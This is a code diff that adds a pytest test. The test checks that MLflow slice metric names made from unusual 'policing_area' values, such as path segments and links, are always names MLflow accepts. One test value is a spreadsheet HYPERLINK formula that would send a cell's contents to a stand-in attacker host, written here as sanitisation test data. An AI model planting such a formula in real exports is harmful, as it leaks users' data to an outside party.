@@ -157,3 +157,23 @@ def test_rerun_reproduces_a_run_s_test_metrics_and_refuses_other_data(own_store,
     assert rerun.data.tags["data_sha256"] == original.data.tags["data_sha256"]
     tested = {k: v for k, v in original.data.metrics.items() if k.startswith("test_")}
     assert tested and {k: rerun.data.metrics[k] for k in tested} == tested
+
+
+def test_slice_metric_names_from_any_area_name_are_names_mlflow_accepts():
+    """An area written as a link or a path (``http://…``, ``x/../y``, a trailing ``/``) made a
+    training stop at MLflow's refusal of the slice metric's name; every such value now gives a
+    name MLflow accepts, and an ordinary ``a/b`` keeps its name."""
+    from mlflow.utils.validation import _validate_metric_name
+
+    from resilience.tracking.run_page import grouped_slice_metric_names, slice_metric_names
+
+    values = ['=HYPERLINK("http://evil.example/?x="&A1)', "x/../y", "x/./y", "x/", "/", "..", "a/b"]
+    rows = [
+        {"slice": "policing_area", "value": v, "roc_auc": 0.6 + i / 100, "n": 100}
+        for i, v in enumerate(values)
+    ]
+    names = {**slice_metric_names(rows), **grouped_slice_metric_names(rows)}
+    assert len(names) >= len(values)  # values that differ only in refused characters may share one
+    for name in names:
+        _validate_metric_name(name)  # raises for a name MLflow refuses
+    assert "auc.policing_area.a/b" in names
